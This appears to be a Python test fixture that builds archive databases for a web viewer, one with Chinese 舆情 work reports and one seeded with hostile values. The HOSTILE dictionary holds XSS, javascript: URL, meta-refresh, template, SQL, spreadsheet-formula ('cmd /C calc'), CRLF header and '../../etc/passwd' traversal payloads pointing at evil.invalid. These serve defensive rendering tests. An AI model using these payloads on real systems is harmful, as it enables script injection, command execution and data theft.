"""The archives that the browser looks at: one with reports of two sites about 舆情, and one with hostile rows.

Hostile values are written straight into the rows, past every cleaner: what is served must not rest on how it came in.
"""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from archive.database import open_archive
from archive.schema import TABLES
from cleaners.read import recipe_digest
from cleaners.reading import Edit, Entry, EntryFacts, Facts, Link, Links, Reply, StatedDate
from tests.archive.desk import LONG, PLAN, WORK, Desk, entry, open_desk, reading

EVIL = "http://evil.invalid/"
"""Where a page would go if it obeyed an archived value; nothing may ask for it."""
RUN = "window.pwned=1"
HOSTILE: Mapping[str, str] = {
    "script": f"\"'><script>{RUN};alert(1)</script><script src={EVIL}x.js></script>",
    "event": f"\"><img src={EVIL}x.png onerror={RUN}>' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    "svg": f"<svg onload={RUN}><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    "style": f"</style></textarea></title><style>*{{display:none}}body{{background:url({EVIL}x)}}</style>",
    "place": "\" style=\"position:fixed;inset:0;z-index:9999;background:#f00\" class=\"",
    "frame": f"<base href={EVIL}><meta http-equiv=refresh content='0;url={EVIL}'><iframe src={EVIL}></iframe>"
             f"<link rel=stylesheet href={EVIL}x.css><form action={EVIL}><button>x</button></form>",
    "comment": "<!-- --!> <![CDATA[ ]]> </body></html><plaintext><noscript>",
    "url": f"javascript:{RUN}//",
    "data-url": f"data:text/html,<script>{RUN}</script>",
    "relative-url": "//evil.invalid/x",
    "quoted-url": f"http://evil.invalid/\"onclick=\"{RUN}",
    "template": "{{ 7919*7919 }}{% raw %}{{ config }}${7919*7919}<%= 7919*7919 %>#{7919*7919}",
    "bidi": "\u202etxt.exe\u202c \u2066倒\u2069 \u200f\u200e \u200b\u2060\ufeff\u061c",
    "formula": "=HYPERLINK(\"http://evil.invalid\",\"x\")",
    "plus": "+cmd|' /C calc'!A0",
    "tab-formula": "\t=1+1",
    "sql": "'; DROP TABLE reports; -- %00 \\' \" ` [x]",
    "lines": "一\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>\r\nER  - \u2028二",
    "controls": "a\x00b\x01\x08\x1b[31m\x7f\x85c",
    "zalgo": "Z" + "̴̡͕͊" * 200 + " 👩‍👩‍👧‍👦🏳️‍🌈 שלום العربية",
    "word": "无" * 3000 + "W" * 3000,
    "path": "../../etc/passwd?_format=csv#x&y=1;%2e%2e%2f%0a",
    "blank": " 　 ",
    "empty": "",
}
"""Class of hostile values, and one of it."""
LONG_TITLE = "十兆" * 1_750_000
"""10 MB of UTF-8."""
# Columns by which rows are found, ordered or joined, or that a page must be able to compute with.
_LEFT = {"public_id", "key", "title_key", "sha256", "digits", "rules", "first_seen_at", "last_seen_at", "added_at",
         "fetched_at", "started_at", "heartbeat_at", "finished_at", "asserted_at", "failed_at", "forgotten_at",
         "warc_file", "recipe", "hints_digest", "due_at", "lease_until_at", "shown_sha256"}  # fmt: skip
_JSON = {"period", "labels", "asserted", "facts", "headers", "redirects", "settings"}


def opinion_shelf(folder: Path) -> Path:
    """Make an archive in which 舆情 is told of by a report with two differing copies, and by another; give its file."""
    desk = open_desk(folder)
    text = f"2021年舆情工作总结\n{PLAN}\n全年处置网络舆情12起，回应群众关切。\n{WORK}\n{LONG}"
    told = f"2021年舆情工作总结\n{PLAN}\n全年处置网络舆情15起，回应群众关切。\n{WORK}\n{LONG}\n另附说明一段。"
    tail = "\n点赞: 12"
    edits = (Edit(rule="like-tail", start=len(text), taken=tail),)
    thanks = (Reply(floor=2, text="谢谢"),)
    first = _simple(text, "2021年舆情工作总结", day="2022-01-05", author="山间小站", edits=edits)
    desk.file(reading(first, key="doc:1", url="http://a.test/thread-1-1-1.html", replies=thanks))
    desk.file(reading(_simple(told, "舆情工作总结", day="2022-03-01"), key="doc:2", url="http://b.test/2.html"))
    desk.file(reading(_simple(text, "2021年舆情工作总结"), key="doc:3", url="http://c.test/3.html"))
    desk.file(reading(_simple(f"舆情应对计划：{LONG}{WORK}", "2022年舆情工作计划"), key="doc:4", url="http://b.test/4"))
    desk.file(reading(entry(PLAN * 3, title="读书活动總結"), key="doc:5", url="http://a.test/5"))
    desk.archive.close()
    return folder / "archive.db"


def _simple(text: str, title: str, *, day: str | None = None, **more: Any) -> Entry:
    date = StatedDate(kind="posted", stated=day, at=day, precision="day") if day else None
    return entry(text, title=title, date=date, facts=EntryFacts(script="simplified"), **more)


def hostile_shelf(folder: Path) -> Path:
    """Make an archive with a report, copies, site and all else for each hostile value; give its file."""
    desk = open_desk(folder)
    for number, (name, value) in enumerate(HOSTILE.items(), start=1):
        _file(desk, number, name)
        desk.archive.conn.execute("BEGIN")
        _poison(desk, number, value)
        desk.archive.conn.execute("COMMIT")
    _file(desk, 900, "long")
    desk.archive.conn.execute("UPDATE reports SET title = ? WHERE id = (SELECT max(id) FROM reports)", (LONG_TITLE,))
    desk.archive.conn.execute("UPDATE copies SET title = ? WHERE id = (SELECT max(id) FROM copies)", (LONG_TITLE,))
    _file(desk, 901, "broken")
    _break(desk)
    desk.archive.close()
    return folder / "archive.db"


def _file(desk: Desk, number: int, name: str) -> None:
    """File a report of its own at two places of a host of its own."""
    text = f"第{number}号材料，代号{name}。" + f"{number}号点位整改到位，{number}项任务全部销号，舆情平稳。" * 6
    facts = Facts(site_name=f"站{number}", category="总结")
    edits = (Edit(rule="like-tail", start=len(text), taken="\n点赞: 12"),)
    links = Links(attachments=(Link(url=f"http://h{number}.test/a.doc", title="附件"),))
    for place, more in ((1, ""), (2, f"\n补充说明{number}号，仅此一处。")):
        url = f"http://h{number}{place}.test/{place}"
        made = entry(text + more, title=f"标题{number}", author="作者", subtitle="副题", edits=edits)
        one = reading(made, key=f"h:{number}:{place}", url=url, facts=facts, links=links, recipe=recipe_digest(),
                      replies=(Reply(floor=2, text="回复", author="路人"),))  # fmt: skip
        desk.file(one)


def _poison(desk: Desk, number: int, value: str) -> None:
    """Put a value into every free text and JSON column of the rows of one report."""
    conn = desk.archive.conn
    report = conn.execute("SELECT max(id) FROM reports").fetchone()[0]
    conn.execute("UPDATE reports SET genre_id = ? WHERE id = ?", (_genre(desk, number, value), report))
    documents = "document_id IN (SELECT document_id FROM copies WHERE report_id = :report)"
    rows = {
        "reports": "id = :report", "texts": "report_id = :report", "copies": "report_id = :report",
        "documents": documents.replace("document_id IN", "id IN"), "replies": documents, "attachments": documents,
        "edits": "copy_id IN (SELECT id FROM copies WHERE report_id = :report)",
        "sites": "id IN (SELECT site_id FROM copies WHERE report_id = :report)", "captures": documents,
        "frontier": documents,
    }  # fmt: skip
    for table, where in rows.items():
        for column in _free(table):
            told = ":value || id" if column == "host" else ":value"  # a host is unique
            held = _json(column, value) if column in _JSON else value
            conn.execute(
                f'UPDATE "{table}" SET "{column}" = {told} WHERE {where}',  # noqa: S608 - our own names
                {"report": report, "value": held},
            )


def _free(table: str) -> list[str]:
    """Give the columns of a table that hold free text or JSON."""
    (found,) = [one for one in TABLES if one.name == table]
    return [column.name for column in found.columns if column.sql.startswith("TEXT") and column.name not in _LEFT]


def _json(column: str, value: str) -> str | None:
    if column in ("period", "labels"):
        return json.dumps([value, value])
    if column in ("headers", "redirects"):
        return json.dumps([[value, value]])
    word = {"value": value, "derived": value, "who": value, "why": value, "at": value}
    if column == "asserted":
        return json.dumps({"title": word, "author": word, "genre": word, "labels": [word]})
    facts = {"where": [], "masks": {value: 3}, "script": value, "keywords": [value], "stated": {value: value}}
    return json.dumps(facts)


def _genre(desk: Desk, number: int, value: str) -> int:
    desk.archive.conn.execute("INSERT INTO genres (name) VALUES (? || ?)", (value, " " * number))
    return int(desk.archive.conn.execute("SELECT max(id) FROM genres").fetchone()[0])


def _break(desk: Desk) -> None:
    """Give the last report what no writer of ours writes: bytes that are no UTF-8, lone surrogates, blobs, bad JSON."""
    conn = desk.archive.conn
    (report,) = conn.execute("SELECT max(id) FROM reports").fetchone()
    conn.execute("UPDATE reports SET title = CAST(x'E68891EDA0803CFF' AS TEXT) WHERE id = ?", (report,))
    conn.execute("UPDATE copies SET author = x'FF00', title = '\ufffe' WHERE report_id = ?", (report,))
    word = '{"title": {"value": "a\\ud800b", "who": "\\udfff", "why": "\\u0000"}}'
    conn.execute("UPDATE copies SET asserted = ? WHERE report_id = ? AND id % 2", (word, report))
    conn.execute("UPDATE copies SET asserted = 'no json', facts = '[' WHERE report_id = ? AND NOT id % 2", (report,))
    conn.execute("UPDATE documents SET facts = '{' WHERE id = (SELECT max(id) FROM documents)")
    conn.execute("UPDATE reports SET period = 'no json', asserted = '[1', labels = '{}' WHERE id = ?", (report,))


def open_writer(folder: Path) -> Desk:
    """Open an archive that is being served, to write into it."""
    return Desk(archive=open_archive(folder), crawl_id=1, captures=50_000)
